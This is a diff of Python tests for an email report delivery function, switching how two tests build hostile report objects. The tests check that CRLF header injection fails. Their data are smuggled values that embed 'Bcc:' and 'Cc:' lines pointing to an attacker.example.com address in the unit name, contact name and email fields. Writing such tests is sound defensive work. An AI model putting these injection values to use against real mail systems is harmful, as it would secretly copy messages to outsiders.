@@ -597,8 +597,8 @@ def test_duplicate_refused_without_resend_allowed_with_resend(tmp_path, smtp_ser
 
 
 def test_header_injection_in_unit_name_adds_no_header(tmp_path, smtp_server, report, attachments):
-    hostile = report.model_copy(
-        update={"unit": "某单位\r\nBcc: evil@attacker.example.com", "contact_name": "张三\nCc: evil2@attacker.example.com"}
+    hostile = report.replace(
+        **{"unit": "某单位\r\nBcc: evil@attacker.example.com", "contact_name": "张三\nCc: evil2@attacker.example.com"}
     )
     settings = settings_for(tmp_path, smtp_server.port)
     result = deliver_report(hostile, attachments, settings)
@@ -616,7 +616,7 @@ def test_header_injection_in_unit_name_adds_no_header(tmp_path, smtp_server, rep
 
 
 def test_injected_address_is_rejected_before_anything_is_stored(tmp_path, smtp_server, report, attachments):
-    hostile = report.model_copy(update={"contact_email": "zhangsan@unit.example.cn\r\nBcc: evil@attacker.example.com"})
+    hostile = report.replace(**{"contact_email": "zhangsan@unit.example.cn\r\nBcc: evil@attacker.example.com"})
     settings = settings_for(tmp_path, smtp_server.port)
     with pytest.raises(AddressError) as excinfo:
         deliver_report(hostile, attachments, settings)
